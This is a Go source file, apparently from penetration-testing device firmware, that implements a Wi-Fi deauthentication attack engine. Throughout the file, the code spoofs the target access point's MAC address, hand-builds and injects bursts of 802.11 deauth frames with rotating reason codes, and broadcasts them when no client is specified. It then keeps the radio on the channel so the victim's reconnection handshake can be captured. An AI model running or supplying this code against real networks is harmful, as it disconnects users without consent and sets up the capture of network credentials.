package wifi

import (
	"encoding/binary"
	"sync/atomic"
	"time"

	"github.com/google/uuid"
	"github.com/spectra-rf/corefw/internal/core/domain"
	"github.com/spectra-rf/corefw/internal/core/ports"
	"github.com/spectra-rf/corefw/internal/telemetry"
)

// deauthReasonCycle is the reason-code rotation spec.md §4.4 requires.
var deauthReasonCycle = []uint16{7, 6, 2, 4, 1}

// deauthFrameLen is the fixed size of the hand-built 802.11
// deauthentication frame: FC(2) + Duration(2) + Addr1/2/3(6 each) +
// SeqCtrl(2) + ReasonCode(2) = 26 bytes. It carries no RadioTap header
// and no NAV-jamming duration, unlike a generic packet-layer builder.
const deauthFrameLen = 26

var broadcastMAC = [6]byte{0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF}

// DeauthEngine injects deauthentication bursts per spec.md §4.4. It
// shares the radio capability with Sniffer/ChannelHopper but owns its
// own sequence-number counter and critical-section sequence.
type DeauthEngine struct {
	wifi   ports.Wifi80211
	hopper interface {
		Running() bool
		Start()
		Stop() bool
	}

	seq atomic.Uint32 // wraps at 12 bits

	injected atomic.Uint64
	failures atomic.Uint64
}

// NewDeauthEngine constructs a DeauthEngine; hopper is the sniffer's
// channel hopper, snapshotted/restored around the burst.
func NewDeauthEngine(wifi ports.Wifi80211, hopper interface {
	Running() bool
	Start()
	Stop() bool
}) *DeauthEngine {
	return &DeauthEngine{wifi: wifi, hopper: hopper}
}

// DeauthResult reports the outcome of a burst.
type DeauthResult struct {
	RunID    string
	Success  bool
	Channel  int
	Injected int
	Failed   int
}

// buildFrame assembles one 26-byte deauth frame with the given
// addr1/ap/reason/seq (spec.md §4.4 step 6).
func buildFrame(addr1, ap [6]byte, reason uint16, seq uint16) []byte {
	f := make([]byte, deauthFrameLen)
	f[0], f[1] = 0xC0, 0x00 // FC: management, subtype deauth
	f[2], f[3] = 0x00, 0x00 // Duration
	copy(f[4:10], addr1[:])
	copy(f[10:16], ap[:])
	copy(f[16:22], ap[:])
	seqCtrl := (seq & 0x0FFF) << 4 // fragment number stays 0
	binary.LittleEndian.PutUint16(f[22:24], seqCtrl)
	binary.LittleEndian.PutUint16(f[24:26], reason)
	return f
}

// nextSeq returns the next 12-bit sequence number, wrapping at 4096.
func (d *DeauthEngine) nextSeq() uint16 {
	v := d.seq.Add(1) & 0x0FFF
	return uint16(v)
}

// Run executes a deauth burst against ap/target on channel, sending
// count frames (spec.md §4.4's full 8-step critical section). target
// of [6]byte{} (all zero) is treated as "not specified" and broadcast
// is used instead.
func (d *DeauthEngine) Run(target, ap [6]byte, channel int, count int) (DeauthResult, error) {
	runID := uuid.NewString()

	addr1 := target
	if addr1 == ([6]byte{}) {
		addr1 = broadcastMAC
	}

	// 1. Snapshot prior state.
	wasHopping := d.hopper.Running()
	prevMAC := d.wifi.OwnMAC()

	// 2. Disable hopping; wait for it to quiesce.
	if wasHopping {
		d.hopper.Stop()
	}

	// 3. Disable promiscuous mode; stop the radio.
	if err := d.wifi.SetPromiscuous(false); err != nil {
		return DeauthResult{}, domain.WrapError(domain.KindHardwareError, "disable promiscuous mode", err)
	}
	if err := d.wifi.StopRadio(); err != nil {
		return DeauthResult{}, domain.WrapError(domain.KindHardwareError, "stop radio", err)
	}

	// 4. Override own MAC to ap; start AP mode on the target channel; disable power save.
	if err := d.wifi.SetOwnMAC(ap); err != nil {
		return DeauthResult{}, domain.WrapError(domain.KindHardwareError, "spoof source MAC", err)
	}
	if err := d.wifi.StartAPMode(channel); err != nil {
		return DeauthResult{}, domain.WrapError(domain.KindHardwareError, "start AP mode", err)
	}
	if err := d.wifi.SetPowerSave(false); err != nil {
		return DeauthResult{}, domain.WrapError(domain.KindHardwareError, "disable power save", err)
	}

	// 5. Re-enable promiscuous mode.
	if err := d.wifi.SetPromiscuous(true); err != nil {
		return DeauthResult{}, domain.WrapError(domain.KindHardwareError, "re-enable promiscuous mode", err)
	}

	// 6-7. Build and inject count frames, rotating reason codes.
	injected, failed := 0, 0
	for i := 0; i < count; i++ {
		reason := deauthReasonCycle[i%len(deauthReasonCycle)]
		seq := d.nextSeq()
		frame := buildFrame(addr1, ap, reason, seq)
		if err := d.wifi.Inject(frame); err != nil {
			failed++
			d.failures.Add(1)
			telemetry.InjectionErrors.WithLabelValues("deauth").Inc()
			continue
		}
		injected++
		d.injected.Add(1)
		telemetry.InjectionsTotal.WithLabelValues("deauth").Inc()

		if (i+1)%5 == 0 {
			time.Sleep(0) // yield every 5 frames
		}
		time.Sleep(500 * time.Microsecond)
	}

	// 8. Restore: stop radio, restore own MAC, pin the target channel.
	// Hopping stays off even if it was running before the burst, so the
	// ensuing handshake stays observable on this channel until
	// SNIFF_START re-arms the hopper.
	_ = d.wifi.StopRadio()
	_ = d.wifi.SetOwnMAC(prevMAC)
	if err := d.wifi.SetChannel(channel); err != nil {
		return DeauthResult{}, domain.WrapError(domain.KindHardwareError, "restore channel", err)
	}

	return DeauthResult{
		RunID:    runID,
		Success:  injected >= 1,
		Channel:  channel,
		Injected: injected,
		Failed:   failed,
	}, nil
}
